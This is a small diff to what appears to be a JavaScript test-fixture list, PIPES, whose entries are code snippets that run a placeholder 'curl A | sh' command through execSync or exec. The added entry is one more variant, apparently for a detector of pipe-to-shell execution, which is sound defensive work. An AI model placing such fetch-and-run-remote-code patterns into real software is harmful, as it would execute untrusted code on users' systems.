@@ -39,6 +39,7 @@ const PIPES = [
   "const sh = (c) => execSync(c, { stdio: 'inherit' });\nsh('«curl A | sh»');",
   "for (const c of ['ls', '«curl A | sh»']) execSync(c);",
   "['«curl A | sh»'].forEach((c) => execSync(c));",
+  "const CMDS = { a: '«curl A | sh»' };\nfor (const c of Object.values(CMDS)) execSync(c);",
   "const CMDS = { install: '«curl A | sh»' };\nexecSync(CMDS.install);",
   "new Promise((r) => exec('«curl A | sh»', r));",
   "module.exports = { run() { execSync('«curl A | sh»'); } };",
